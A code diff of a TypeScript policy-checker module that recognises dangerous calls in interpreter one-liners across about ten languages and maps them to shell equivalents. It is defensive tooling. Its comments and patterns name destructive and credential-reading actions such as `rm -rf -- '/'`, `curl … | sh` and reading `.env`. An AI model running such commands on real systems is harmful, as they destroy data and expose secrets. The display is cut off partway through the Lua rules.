@@ -1,13 +1,20 @@
 /**
  * Code given to an interpreter on its command line (`python3 -c '…'`, `node -e '…'`, `perl -e '…'`, `ruby -e`,
- * `php -r`, `awk '…'`, `osascript -e`, or a here-doc fed to one) is scanned for the calls that matter to a
- * policy, and each is turned into the shell command that does the same, which is then examined like any other:
- * `shutil.rmtree("/")` becomes `rm -rf -- '/'`, `os.system("curl … | sh")` becomes that command line,
- * `fs.readFileSync(".env")` becomes `cat -- '.env'`. One set of command tables (commands.ts) then decides for
- * every language, and an argument that is not a string literal is a hole (it may be any path).
+ * `php -r`, `lua -e`, `awk '…'`, `osascript -e`, `Rscript -e`, `tclsh`, `go run -`, or a here-doc fed to one) is
+ * scanned for the calls that matter to a policy, and each is turned into the shell command that does the same,
+ * which is then examined like any other: `shutil.rmtree("/")` becomes `rm -rf -- '/'`, `os.system("curl … | sh")`
+ * becomes that command line, `fs.readFileSync(".env")` becomes `cat -- '.env'`. One set of command tables
+ * (commands.ts) then decides for every language.
  *
- * The scan is a handful of fixed, linear regular expressions over text capped at MAX_CODE characters: it is a
- * sound over-approximation for the calls listed, not a parser of five languages.
+ * Call arguments are evaluated when they are simple: string literals (with `$ENV{HOME}`/`#{Dir.home}` style
+ * interpolation of the home directory), concatenation (`+`, `.`, `..`), the home directory however it is asked for
+ * (`os.path.expanduser('~/x')`, `os.homedir()`, `process.env.HOME`, `Dir.home`, `os.getenv("HOME")`, …),
+ * `os.path.join`/`path.join`/`File.join` of known parts, names the code assigned a literal, and a loop's literal
+ * tuple (`for d in ('/usr', '/var')`). An argument that is none of these is unknown: in a call that works on the
+ * files of a walk (`os.walk('/')`, `File::Find`, `Dir.glob`) it stands for each file under the walk's root.
+ *
+ * The scan is a fixed set of linear regular expressions over text capped at MAX_CODE characters: a sound
+ * over-approximation for the calls listed, not a parser of ten languages.
  */
 import type { ShellWord } from "./model";
 import { commandName } from "./strip";
@@ -15,11 +22,12 @@ import { HOLE_VARIABLE } from "./template";
 
 const MAX_CODE = 64 * 1024;
 const UNKNOWN = `"\${${HOLE_VARIABLE}}"`;
+const MAX_LINES = 64;
 
-type Lang = "python" | "node" | "perl" | "ruby" | "php" | "awk" | "osascript" | "lua" | "r";
+type Lang = "python" | "node" | "perl" | "ruby" | "php" | "awk" | "osascript" | "lua" | "r" | "tcl" | "go";
 
-/** Interpreters and the options that give them a program on the command line. */
-const INTERPRETERS: readonly { test: RegExp; lang: Lang; code: readonly string[]; firstOperand?: boolean }[] = [
+/** Interpreters and how they take a program on the command line. */
+const INTERPRETERS: readonly { test: RegExp; lang: Lang; code: readonly string[]; firstOperand?: boolean; stdinWith?: string }[] = [
   { test: /^(?:python(?:[0-9.]+)?|pypy[0-9.]*)$/, lang: "python", code: ["-c"] },
   { test: /^(?:node|nodejs|bun)$/, lang: "node", code: ["-e", "--eval", "-p", "--print"] },
   { test: /^deno$/, lang: "node", code: ["eval"] },
@@ -30,6 +38,8 @@ const INTERPRETERS: readonly { test: RegExp; lang: Lang; code: readonly string[]
   { test: /^osascript$/, lang: "osascript", code: ["-e"] },
   { test: /^(?:lua|luajit|lua[0-9.]+)$/, lang: "lua", code: ["-e"] },
   { test: /^Rscript$/, lang: "r", code: ["-e"] },
+  { test: /^(?:tclsh|wish|tclsh[0-9.]+)$/, lang: "tcl", code: [] },
+  { test: /^go$/, lang: "go", code: [], stdinWith: "run" },
 ];
 
 export function interpreterOf(name: string): Lang | undefined {
@@ -44,6 +54,7 @@ function programs(name: string, rest: readonly ShellWord[], stdin: readonly stri
   let sawProgram = false;
   for (let k = 1; k < rest.length; k++) {
     const w = rest[k]!.value;
+    if (spec.stdinWith !== undefined) break;
     if (spec.code.includes(w) && rest[k + 1]) {
       out.push({ lang: spec.lang, code: rest[k + 1]!.value });
       sawProgram = true;
@@ -54,6 +65,13 @@ function programs(name: string, rest: readonly ShellWord[], stdin: readonly stri
     if (attached) {
       out.push({ lang: spec.lang, code: w.slice(2) });
       sawProgram = true;
+      continue;
+    }
+    if (/^-[A-Za-z]*e$/.test(w) && spec.code.includes("-e") && rest[k + 1]) {
+      // Combined flags ending in e: `perl -pe CODE`, `ruby -ne CODE`.
+      out.push({ lang: spec.lang, code: rest[k + 1]!.value });
+      sawProgram = true;
+      k++;
       continue;
     }
     if (spec.firstOperand && !w.startsWith("-")) {
@@ -71,21 +89,17 @@ function programs(name: string, rest: readonly ShellWord[], stdin: readonly stri
 /** Shell-quote a literal for the generated command line. */
 const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
 
-const HOME_EXPRESSIONS =
-  /^(?:os\.path\.expanduser\(\s*["']~["']\s*\)|(?:pathlib\.)?Path\.home\(\)|(?:pathlib\.)?Path\(\s*["']~["']\s*\)\.expanduser\(\)|os\.environ\[\s*["']HOME["']\s*\]|os\.getenv\(\s*["']HOME["']\s*\)|os\.environ\.get\(\s*["']HOME["']\s*\)|(?:require\(\s*["']os["']\s*\)|os)\.homedir\(\)|process\.env\.HOME|process\.env\[\s*["']HOME["']\s*\]|ENV\[\s*["']HOME["']\s*\]|Dir\.home|\$ENV\{\s*["']?HOME["']?\s*\}|getenv\(\s*["']HOME["']\s*\)|os\.getenv\(\s*["']HOME["']\s*\))$/;
+// ---------------------------------------------------------------------------------------------------------
+// Evaluating simple expressions
 
-interface Arg {
-  /** The shell word for it: a quoted literal, `~`, or the unknown placeholder. */
-  word: string;
-  /** The literal text when the argument is a string literal. */
-  text?: string;
-  /** A list literal of strings (subprocess argv). */
-  list?: string[];
-  /** The call's whole argument text (for `recursive: true`, `shell=True`, modes). */
-  all: string;
-}
+/** The home directory, however a language asks for it. */
+const HOME_TERM =
+  /^(?:(?:pathlib\.)?Path\.home\(\)|os\.environ\[\s*["']HOME["']\s*\]|os\.(?:getenv|environ\.get)\(\s*["']HOME["']\s*\)|(?:require\(\s*["'](?:node:)?os["']\s*\)|os)\.homedir\(\)|process\.env\.HOME|process\.env\[\s*["']HOME["']\s*\]|ENV\[\s*["']HOME["']\s*\]|ENV\.fetch\(\s*["']HOME["']\s*\)|Dir\.home|\$ENV\{\s*["']?HOME["']?\s*\}|(?:os\.)?getenv\(\s*["']HOME["']\s*\)|Deno\.env\.get\(\s*["']HOME["']\s*\)|Deno\.homeDir\(\)|os\.UserHomeDir\(\)|\$_SERVER\[\s*["']HOME["']\s*\]|\$env\(HOME\)|Sys\.getenv\(\s*["']HOME["']\s*\)|path\.expand\(\s*["']~["']\s*\))$/;
 
-/** Read a string literal starting at `i` (quote char at i); returns [text, index after]. */
+/** Interpolation of the home directory inside a double-quoted string. */
+const HOME_INTERPOLATION = /\$ENV\{\s*["']?HOME["']?\s*\}|\$\{?HOME\}?|#\{\s*(?:Dir\.home|ENV\[\s*["']HOME["']\s*\])\s*\}|\{\s*(?:os\.environ\[\s*["']HOME["']\s*\]|Path\.home\(\))\s*\}/g;
+
+/** Read a string literal starting at `i` (quote char at i); returns [text, index after], or undefined. */
 function stringAt(code: string, i: number): [string, number] | undefined {
   const quote = code[i]!;
   if (quote !== "'" && quote !== '"' && quote !== "`") return undefined;
@@ -94,18 +108,18 @@ function stringAt(code: string, i: number): [string, number] | undefined {
   let j = i + close.length;
   let out = "";
   while (j < code.length) {
-    if (code.startsWith(close, j)) return [out, j + close.length];
+    if (code.startsWith(close, j)) return [quote === "'" ? out : out.replace(HOME_INTERPOLATION, "~"), j + close.length];
     const c = code[j]!;
     if (c === "\\" && j + 1 < code.length) {
       const e = code[j + 1]!;
-      out += e === "n" ? "\n" : e === "t" ? "\t" : e;
+      out += e === "n" ? "\n" : e === "t" ? "\t" : e === "0" ? "\0" : e;
       j += 2;
       continue;
     }
     if (quote === "`" && c === "$" && code[j + 1] === "{") {
-      // A template literal's `${…}`: unknown text.
       const end = code.indexOf("}", j);
-      out += "\u0000";
+      const inner = code.slice(j + 2, end < 0 ? code.length : end).trim();
+      out += HOME_TERM.test(inner) ? "~" : "\u0000";
       j = end < 0 ? code.length : end + 1;
       continue;
     }
@@ -115,10 +129,122 @@ function stringAt(code: string, i: number): [string, number] | undefined {
   return undefined;
 }
 
-/** The first argument of the call whose `(` is at `open`, and the text of all its arguments. */
-function firstArg(code: string, open: number): Arg {
+type Bindings = ReadonlyMap<string, readonly string[]>;
+
+/** Split `text` at top-level occurrences of `sep` (outside quotes and brackets). */
+function splitTop(text: string, sep: RegExp): string[] {
+  const parts: string[] = [];
   let depth = 0;
-  let end = code.length;
+  let from = 0;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (c === "'" || c === '"' || c === "`") {
+      const s = stringAt(text, i);
+      if (s) {
+        i = s[1] - 1;
+        continue;
+      }
+    }
+    if (c === "(" || c === "[" || c === "{") depth++;
+    else if (c === ")" || c === "]" || c === "}") depth--;
+    else if (depth === 0) {
+      sep.lastIndex = i;
+      const m = sep.exec(text);
+      if (m && m.index === i) {
+        parts.push(text.slice(from, i));
+        from = i + m[0].length;
+        i = from - 1;
+      }
+    }
+  }
+  parts.push(text.slice(from));
+  return parts;
+}
+
+const CONCAT = /\s*(?:\+|\.\.|\s\.\s)\s*/y;
+const COMMA = /,/y;
+const JOIN_CALL = /^(?:os\.path\.join|path\.join|path\.resolve|posixpath\.join|File\.join|filepath\.Join|Path\.join|File\.expand_path|os\.path\.abspath|os\.path\.realpath|path\.normalize|Path)\s*\(([\s\S]*)\)$/;
+const EXPAND_USER = /^(?:os\.path\.expanduser|File\.expand_path|path\.expand)\s*\(([\s\S]*)\)$|^(?:pathlib\.)?Path\(([\s\S]*)\)\.(?:expanduser|resolve|absolute)\(\)$/;
+
+/** The possible values of a simple expression (see the module comment), or undefined when it is not simple. */
+function evaluate(expr: string, bindings: Bindings, depth = 0): string[] | undefined {
+  if (depth > 8) return undefined;
+  let e = expr.trim();
+  if (e === "") return undefined;
+  while (e.startsWith("(") && e.endsWith(")") && splitTop(e.slice(1, -1), COMMA).length === 1) e = e.slice(1, -1).trim();
+  const concat = splitTop(e, CONCAT);
+  if (concat.length > 1) {
+    let acc: string[] = [""];
+    for (const t of concat) {
+      const v = evaluate(t, bindings, depth + 1);
+      if (v === undefined) return undefined;
+      acc = acc.flatMap((a) => v.map((x) => a + x)).slice(0, 16);
+    }
+    return acc;
+  }
+  if (/^[rRbBfFuU]?["'`]/.test(e)) {
+    const s = stringAt(e, /^[rRbBfFuU]/.test(e) ? 1 : 0);
+    if (s && s[1] === e.length - (0) && !s[0].includes("\u0000")) return [s[0]];
+    if (s && !s[0].includes("\u0000") && e.slice(s[1]).trim() === "") return [s[0]];
+    return undefined;
+  }
+  if (HOME_TERM.test(e)) return ["~"];
+  const expand = EXPAND_USER.exec(e);
+  if (expand) return evaluate(expand[1] ?? expand[2]!, bindings, depth + 1);
+  const join = JOIN_CALL.exec(e);
+  if (join) {
+    const parts = splitTop(join[1]!, COMMA).map((p) => evaluate(p, bindings, depth + 1));
+    if (parts.some((p) => p === undefined)) return undefined;
+    let acc: string[] = [""];
+    for (const p of parts as string[][]) acc = acc.flatMap((a) => p.map((x) => (a === "" ? x : x.startsWith("/") ? x : `${a.replace(/\/+$/, "")}/${x}`))).slice(0, 16);
+    return acc;
+  }
+  const name = /^\$?([A-Za-z_]\w*)$/.exec(e);
+  if (name) {
+    const bound = bindings.get(name[1]!);
+    return bound === undefined ? undefined : [...bound];
+  }
+  return undefined;
+}
+
+/** Names the code binds to literals (`p = '.env'`, `const p = "…"`, `my $p = '…'`, `set p …`) and loop tuples. */
+function literalBindings(code: string): Map<string, string[]> {
+  const out = new Map<string, string[]>();
+  for (const m of code.matchAll(/(?:\b(?:const|let|var|my|local|our)\s+)?\$?([A-Za-z_]\w*)\s*(?::=|=)(?!=)\s*([^;\n]{1,512})/g)) {
+    const v = evaluate(m[2]!.replace(/\s*(?:#|\/\/).*$/, ""), out);
+    if (v !== undefined) out.set(m[1]!, v);
+  }
+  for (const m of code.matchAll(/\bset\s+([A-Za-z_]\w*)\s+(\S+)/g)) out.set(m[1]!, [m[2]!.replace(/^["{]|["}]$/g, "")]);
+  // `for d in ('/usr', '/var'):`, `for (const d of ['/a', '/b'])`, `for my $d ('/a', '/b')`, `['/a','/b'].each do |d|`
+  const loops = [
+    ...code.matchAll(/\bfor\s+([A-Za-z_]\w*)\s+in\s+[([]([^)\]]{1,1024})[)\]]/g),
+    ...code.matchAll(/\bfor\s*\(\s*(?:const|let|var)\s+([A-Za-z_]\w*)\s+of\s+\[([^\]]{1,1024})\]/g),
+    ...code.matchAll(/\bfor(?:each)?\s+my\s+\$([A-Za-z_]\w*)\s*\(([^)]{1,1024})\)/g),
+  ].map((m) => [m[1]!, m[2]!] as const);
+  for (const m of code.matchAll(/\[([^\]]{1,1024})\]\.each\s*(?:do\s*\||\{\s*\|)\s*([A-Za-z_]\w*)/g)) loops.push([m[2]!, m[1]!]);
+  for (const [name, list] of loops) {
+    const items = splitTop(list, COMMA).map((x) => evaluate(x, out));
+    if (items.every((x) => x !== undefined)) out.set(name, (items as string[][]).flat().slice(0, 16));
+  }
+  return out;
+}
+
+/** The root a walk over the file tree starts at (`os.walk('/')`, `find(sub{…}, "/home/x")`, `Dir.glob("/etc/**")`). */
+function walkRoot(code: string, bindings: Bindings): string | undefined {
+  const m = /\b(?:os\.walk|os\.scandir|os\.listdir|glob\.glob|glob\.iglob|Dir\.glob|Dir\.each_child|Dir\.children|Find\.find|readdirSync|fs\.readdir|filepath\.Walk|filepath\.WalkDir|(?:pathlib\.)?Path\([^)]*\)\.r?glob|find)\s*\(/.exec(code);
+  if (!m) return undefined;
+  const open = m.index + m[0].length - 1;
+  const args = callArgs(code, open).args;
+  const isFind = /\bfind\s*\($/.test(m[0]) && !/Find\.find/.test(m[0]);
+  const pick = isFind ? args[args.length - 1] : /Path\(/.test(m[0]) ? `${/Path\(([^)]*)\)/.exec(m[0])?.[1] ?? ""}` : args[0];
+  const v = pick !== undefined ? evaluate(pick, bindings)?.[0] : undefined;
+  return v === undefined ? undefined : v.replace(/\/\*\*.*$/, "").replace(/\/\*$/, "") || "/";
+}
+
+/** The argument texts of the call whose opening bracket is at `open` (top-level commas), and their source. */
+function callArgs(code: string, open: number): { args: string[]; all: string } {
+  let depth = 0;
+  let end = Math.min(code.length, open + 4096);
   for (let j = open; j < code.length && j < open + 4096; j++) {
     const c = code[j]!;
     if (c === "'" || c === '"' || c === "`") {
@@ -135,137 +261,188 @@ function firstArg(code: string, open: number): Arg {
     }
   }
   const all = code.slice(open + 1, end);
-  let i = open + 1;
-  while (i < end && /\s/.test(code[i]!)) i++;
-  // Python string prefixes (r"…", f"…", b"…").
-  if (/[rRbBfFuU]/.test(code[i] ?? "") && /['"]/.test(code[i + 1] ?? "")) i++;
-  const lit = stringAt(code, i);
-  if (lit) {
-    const after = code.slice(lit[1], lit[1] + 2).trimStart()[0];
-    if (after === undefined || after === "," || after === ")") {
-      const text = lit[0];
-      if (text.includes("\u0000")) return { word: UNKNOWN, all };
-      return { word: q(text), text, all };
-    }
-  }
-  if (code[i] === "[") {
-    // ["rm", "-rf", "/"]: an argv list.
-    const items: string[] = [];
-    let j = i + 1;
-    for (;;) {
-      while (j < end && /[\s,]/.test(code[j]!)) j++;
-      if (code[j] === "]") break;
-      const s = stringAt(code, j);
-      if (!s) return { word: UNKNOWN, all };
-      items.push(s[0]);
-      j = s[1];
-    }
-    return { word: UNKNOWN, list: items, all };
-  }
-  let k = i;
-  let d = 0;
-  for (; k < end; k++) {
-    const c = code[k]!;
-    if (c === "(" || c === "[") d++;
-    else if (c === ")" || c === "]") d--;
-    else if (c === "," && d === 0) break;
-  }
-  const expr = code.slice(i, k).trim();
-  if (HOME_EXPRESSIONS.test(expr)) return { word: "~", all };
-  return { word: UNKNOWN, all };
+  return { args: splitTop(all, COMMA).map((x) => x.trim()).filter((x) => x !== ""), all };
 }
 
-type Rule = { re: RegExp; shell: (a: Arg) => string | undefined };
+/** Arguments of a call written without parentheses (perl `system "rm", "-rf", "/"`), up to the statement's end. */
+function bareArgs(code: string, from: number): { args: string[]; all: string } {
+  let end = from;
+  let depth = 0;
+  for (; end < code.length && end < from + 4096; end++) {
+    const c = code[end]!;
+    if (c === "'" || c === '"') {
+      const s = stringAt(code, end);
+      if (s) {
+        end = s[1] - 1;
+        continue;
+      }
+    }
+    if (c === "(" || c === "[" || c === "{") depth++;
+    else if (c === ")" || c === "]" || c === "}") {
+      if (depth === 0) break;
+      depth--;
+    } else if ((c === ";" || c === "\n") && depth === 0) break;
+  }
+  const all = code.slice(from, end);
+  return { args: splitTop(all, COMMA).map((x) => x.trim()).filter((x) => x !== "" && !/^(?:or|and|if|unless)\b/.test(x)), all };
+}
 
-const recursiveOption = (a: Arg) => /recursive\s*[:=]\s*(?:true|True|1)/.test(a.all);
-const asCode = (a: Arg) => (a.list ? a.list.map(q).join(" ") : a.text !== undefined ? a.text : UNKNOWN);
-const openMode = (a: Arg) => {
-  const m = /,\s*(?:mode\s*=\s*)?["']([rwaxb+t]+)["']/.exec(a.all);
-  return m && /[wax+]/.test(m[1]!) ? `: > ${a.word}` : `cat -- ${a.word}`;
+/** Blank-separated arguments to the end of the line (Tcl: `file delete -force /x`), quotes and braces read. */
+function blankArgs(code: string, from: number): { args: string[]; all: string } {
+  const eol = code.indexOf("\n", from);
+  const line = code.slice(from, eol < 0 ? code.length : eol).replace(/;.*$/, "");
+  const args = [...line.matchAll(/"([^"]*)"|\{([^}]*)\}|(\S+)/g)].map((m) => JSON.stringify(m[1] ?? m[2] ?? m[3] ?? ""));
+  return { args, all: line };
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Calls
+
+interface Call {
+  /** The possible values of argument n (undefined: not simple). */
+  arg(n: number): string[] | undefined;
+  /** Every argument's values joined as argv, when all are known: `system "rm", "-rf", "/"`. */
+  argv(): string[] | undefined;
+  readonly count: number;
+  readonly all: string;
+}
+
+/** `words`: the arguments are separated by blanks, not commas (Tcl). */
+type Rule = { re: RegExp; shell: (c: Call) => string[] | undefined; words?: boolean };
+
+const word = (vals: string[] | undefined) => (vals === undefined ? [UNKNOWN] : vals.map(q));
+const withPath = (op: string, n = 0) => (c: Call) => word(c.arg(n)).map((p) => `${op} -- ${p}`);
+const recursiveOption = (c: Call) => /recursive\s*[:=]\s*(?:true|True|1)/.test(c.all);
+/** Code run by a shell: one string is a command line, several strings (or a list) are argv. */
+const asCode = (c: Call): string[] | undefined => {
+  if (c.count === 1) {
+    const v = c.arg(0);
+    if (v !== undefined) return v;
+    const list = /^\s*\[([\s\S]*)\]\s*$/.exec(c.all.split(/,\s*(?:shell|check|capture_output|text|cwd|env)\s*=/)[0]!);
+    if (list) {
+      const items = splitTop(list[1]!, COMMA).map((x) => evaluate(x, new Map()));
+      if (items.every((x) => x !== undefined)) return [(items as string[][]).map((x) => q(x[0]!)).join(" ")];
+    }
+    return [UNKNOWN];
+  }
+  const argv = c.argv();
+  if (argv !== undefined) return [argv.map(q).join(" ")];
+  // `execSync('…', { stdio: 'inherit' })`, `subprocess.run("…", shell=True)`: a command line, then options.
+  const first = c.arg(0);
+  return first !== undefined && c.arg(1) === undefined ? first : [UNKNOWN];
+};
+const openMode = (c: Call) => {
+  const m = /^\s*(?:mode\s*=\s*)?["']([rwaxb+t]+)["']/.exec(c.all.split(",")[1] ?? "");
+  return word(c.arg(0)).map((p) => (m && /[wax+]/.test(m[1]!) ? `: > ${p}` : `cat -- ${p}`));
+};
+const WORLD = /0o?7[0-7]7|0o?777|\b777\b|["']777["']|S_IRWXO|S_IWOTH|0o?666|\b0?[0-7][0-7][2367]\b/;
+const chmodOf = (pathArg: number, modeArg: number) => (c: Call) => {
+  const modeText = c.arg(modeArg)?.[0] ?? c.all;
+  const mode = WORLD.test(modeText) || WORLD.test(c.all) ? "777" : "644";
+  return word(c.arg(pathArg)).map((p) => `chmod ${mode} ${p}`);
 };
 
 const RULES: Readonly<Record<Lang, readonly Rule[]>> = {
   python: [
-    { re: /\bshutil\.rmtree\s*\(/g, shell: (a) => `rm -rf -- ${a.word}` },
-    { re: /\b(?:os\.(?:remove|unlink|rmdir|removedirs)|Path\([^)]*\)\.(?:unlink|rmdir))\s*\(/g, shell: (a) => `rm -- ${a.word}` },
+    { re: /\bshutil\.rmtree\s*\(/g, shell: withPath("rm -rf") },
+    { re: /\b(?:os\.(?:remove|unlink|rmdir|removedirs)|Path\([^)]*\)\.(?:unlink|rmdir))\s*\(/g, shell: withPath("rm") },
     { re: /\bos\.(?:system|popen)\s*\(/g, shell: asCode },
     { re: /\bsubprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)\s*\(/g, shell: asCode },
     { re: /\bos\.exec[lv]p?e?\s*\(/g, shell: asCode },
-    { re: /(?<![\w.])open\s*\(/g, shell: openMode },
-    { re: /\bos\.chmod\s*\(/g, shell: (a) => (/0o?7[0-7]7|0o?777|stat\.S_IRWXO|S_IWOTH/.test(a.all) ? `chmod 777 ${a.word}` : `chmod 644 ${a.word}`) },
-    { re: /\bshutil\.(?:copy|copy2|copyfile|copytree|move)\s*\(/g, shell: (a) => `cp -r -- ${a.word} /dev/null` },
+    { re: /(?<![\w.])(?:open|io\.open|codecs\.open)\s*\(/g, shell: openMode },
+    { re: /\b(?:dotenv_values|load_dotenv|read_dotenv)\s*\(/g, shell: (c) => word(c.arg(0) ?? [".env"]).map((p) => `cat -- ${p}`) },
+    { re: /\bos\.chmod\s*\(/g, shell: chmodOf(0, 1) },
+    { re: /\b(?:shutil\.chown|os\.chown|os\.lchown)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `chown nobody ${p}`) },
+    { re: /\bshutil\.(?:copy|copy2|copyfile|copytree|move)\s*\(/g, shell: withPath("cat") },
   ],
   node: [
     // `fs.rmSync(…)`, `require('fs').rmSync(…)`, `fsp.rm(…)`, destructured `rmSync(…)`.
-    { re: /(?:\b|\.)(?:rmSync|rmdirSync)\s*\(|\.(?:rm|rmdir)\s*\(/g, shell: (a) => `rm ${recursiveOption(a) ? "-rf " : ""}-- ${a.word}` },
-    { re: /(?:\b|\.)(?:unlinkSync)\s*\(|\.unlink\s*\(/g, shell: (a) => `rm -- ${a.word}` },
-    { re: /\b(?:rimraf(?:\.sync)?|fse?\.(?:removeSync|remove|emptyDirSync|emptyDir))\s*\(/g, shell: (a) => `rm -rf -- ${a.word}` },
+    { re: /(?:\b|\.)(?:rmSync|rmdirSync)\s*\(|\.(?:rm|rmdir)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `rm ${recursiveOption(c) ? "-rf " : ""}-- ${p}`) },
+    { re: /(?:\b|\.)(?:unlinkSync)\s*\(|\.unlink\s*\(/g, shell: withPath("rm") },
+    { re: /\b(?:rimraf(?:\.sync)?|fse?\.(?:removeSync|remove|emptyDirSync|emptyDir))\s*\(/g, shell: withPath("rm -rf") },
     { re: /\b(?:execSync|exec|execFileSync|execFile|spawnSync|spawn)\s*\(/g, shell: asCode },
-    { re: /(?:\b|\.)(?:readFileSync|readFile|createReadStream)\s*\(/g, shell: (a) => `cat -- ${a.word}` },
-    { re: /(?:\b|\.)(?:writeFileSync|writeFile|appendFileSync|appendFile|createWriteStream)\s*\(/g, shell: (a) => `: > ${a.word}` },
-    { re: /(?:\b|\.)(?:chmodSync|chmod)\s*\(/g, shell: (a) => (/0o?777|["']777["']/.test(a.all) ? `chmod 777 ${a.word}` : `chmod 644 ${a.word}`) },
-    { re: /\bDeno\.(?:remove|removeSync)\s*\(/g, shell: (a) => `rm ${recursiveOption(a) ? "-rf " : ""}-- ${a.word}` },
-    { re: /\bBun\.(?:spawn|spawnSync|\$)\s*[(`]/g, shell: asCode },
+    { re: /(?:\b|\.)(?:readFileSync|readFile|createReadStream)\s*\(/g, shell: withPath("cat") },
+    { re: /(?:\b|\.)(?:writeFileSync|writeFile|appendFileSync|appendFile|createWriteStream)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `: > ${p}`) },
+    { re: /(?:\b|\.)(?:chmodSync|chmod)\s*\(/g, shell: chmodOf(0, 1) },
+    { re: /(?:\b|\.)(?:chownSync|chown)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `chown nobody ${p}`) },
+    { re: /\bDeno\.(?:remove|removeSync)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `rm ${recursiveOption(c) ? "-rf " : ""}-- ${p}`) },
+    { re: /\bDeno\.(?:readTextFile|readTextFileSync|readFile|readFileSync)\s*\(/g, shell: withPath("cat") },
+    { re: /\bDeno\.(?:writeTextFile|writeTextFileSync|writeFile|writeFileSync)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `: > ${p}`) },
+    { re: /\bDeno\.(?:chmod|chmodSync)\s*\(/g, shell: chmodOf(0, 1) },
+    { re: /\bBun\.(?:spawn|spawnSync)\s*\(/g, shell: asCode },
+    { re: /\bdotenv\b[^;]*\.config\s*\(/g, shell: (c) => [`cat -- ${q(/path\s*:\s*["'`]([^"'`]+)/.exec(c.all)?.[1] ?? ".env")}`] },
   ],
   perl: [
-    { re: /\b(?:rmtree|remove_tree)\s*\(?/g, shell: (a) => `rm -rf -- ${a.word}` },
-    { re: /\b(?:unlink|rmdir)\s*\(?/g, shell: (a) => `rm -- ${a.word}` },
+    { re: /\b(?:rmtree|remove_tree)\s*\(?/g, shell: withPath("rm -rf") },
+    { re: /\b(?:unlink|rmdir)\s*\(?/g, shell: (c) => (c.argv() ?? [UNKNOWN]).map((p) => `rm -- ${p === UNKNOWN ? p : q(p)}`) },
     { re: /\b(?:system|exec)\s*\(?/g, shell: asCode },
     { re: /\bqx\s*[({[]/g, shell: asCode },
-    { re: /\bopen\s*\(?/g, shell: (a) => `cat -- ${a.word}` },
+    { re: /\bchmod\s*\(?/g, shell: (c) => { const all = c.argv(); return all && all.length > 1 ? all.slice(1).map((p) => `chmod ${WORLD.test(all[0]!) || WORLD.test(c.all) ? "777" : "644"} ${q(p)}`) : word(c.arg(1)).map((p) => `chmod ${WORLD.test(c.all) ? "777" : "644"} ${p}`); } },
+    { re: /\bchown\s*\(?/g, shell: (c) => word(c.arg(2)).map((p) => `chown nobody ${p}`) },
+    {
+      re: /\bopen\s*\(?/g,
+      shell: (c) => {
+        // open(FH, MODE, PATH) or open(FH, "MODEPATH").
+        const three = c.count >= 3 ? c.arg(1)?.[0] : undefined;
+        const target = c.count >= 3 ? c.arg(2) : c.arg(1)?.map((x) => x.replace(/^\s*(?:\+?[<>]{1,2}|\|)\s*/, ""));
+        const mode = three ?? c.arg(1)?.[0]?.match(/^\s*(\+?[<>]{1,2}|\|)/)?.[1] ?? "<";
+        return word(target).map((p) => (/>/.test(mode) ? `: > ${p}` : `cat -- ${p}`));
+      },
+    },
   ],
   ruby: [
-    { re: /\bFileUtils\.(?:rm_rf|rm_r|remove_dir|remove_entry|remove_entry_secure|rmtree)\s*\(?/g, shell: (a) => `rm -rf -- ${a.word}` },
-    { re: /\b(?:FileUtils\.(?:rm|rm_f|remove)|File\.(?:delete|unlink))\s*\(?/g, shell: (a) => `rm -- ${a.word}` },
+    { re: /\bFileUtils\.(?:rm_rf|rm_r|remove_dir|remove_entry|remove_entry_secure|rmtree)\s*\(?/g, shell: withPath("rm -rf") },
+    { re: /\b(?:FileUtils\.(?:rm|rm_f|remove)|File\.(?:delete|unlink))\s*\(?/g, shell: withPath("rm") },
+    { re: /\bFileUtils\.chmod_R\s*\(?/g, shell: (c) => word(c.arg(1)).map((p) => `chmod -R ${WORLD.test(c.arg(0)?.[0] ?? c.all) ? "777" : "755"} ${p}`) },
+    { re: /\b(?:FileUtils\.chmod|File\.chmod)\s*\(?/g, shell: chmodOf(1, 0) },
+    { re: /\bFileUtils\.chown_R\s*\(?/g, shell: (c) => word(c.arg(2)).map((p) => `chown -R nobody ${p}`) },
     { re: /\b(?:system|exec|spawn|IO\.popen|Open3\.\w+)\s*\(?/g, shell: asCode },
     { re: /%x\s*[({[]/g, shell: asCode },
-    { re: /\b(?:File\.(?:read|readlines|open|binread)|IO\.read)\s*\(?/g, shell: (a) => `cat -- ${a.word}` },
-    { re: /\bFile\.write\s*\(?/g, shell: (a) => `: > ${a.word}` },
+    { re: /\b(?:File\.(?:read|readlines|open|binread|foreach)|IO\.(?:read|readlines))\s*\(?/g, shell: withPath("cat") },
+    { re: /\bFile\.write\s*\(?/g, shell: (c) => word(c.arg(0)).map((p) => `: > ${p}`) },
   ],
   php: [
     { re: /\b(?:system|exec|shell_exec|passthru|popen|proc_open)\s*\(/g, shell: asCode },
-    { re: /\b(?:unlink|rmdir)\s*\(/g, shell: (a) => `rm -- ${a.word}` },
-    { re: /\b(?:file_get_contents|readfile|file|fopen)\s*\(/g, shell: (a) => `cat -- ${a.word}` },
-    { re: /\bfile_put_contents\s*\(/g, shell: (a) => `: > ${a.word}` },
+    { re: /\b(?:unlink|rmdir)\s*\(/g, shell: withPath("rm") },
+    { re: /\b(?:file_get_contents|readfile|file|fopen|parse_ini_file)\s*\(/g, shell: withPath("cat") },
+    { re: /\bfile_put_contents\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `: > ${p}`) },
+    { re: /\bchmod\s*\(/g, shell: chmodOf(0, 1) },
   ],
   awk: [{ re: /\bsystem\s*\(/g, shell: asCode }],
   osascript: [{ re: /do\s+shell\s+script\s+(?=["'])/g, shell: asCode }],
   lua: [
-    { re: /\bos\.(?:execute)\s*\(/g, shell: asCode },
+    { re: /\bos\.execute\s*\(/g, shell: asCode },
     { re: /\bio\.popen\s*\(/g, shell: asCode },
-    { re: /\bos\.remove\s*\(/g, shell: (a) => `rm -- ${a.word}` },
-    { re: /\bio\.open\s*\(/g, shell: (a) => `cat -- ${a.word}` },
+    { re: /\bos\.remove\s*\(/g, shell: withPath("rm") },
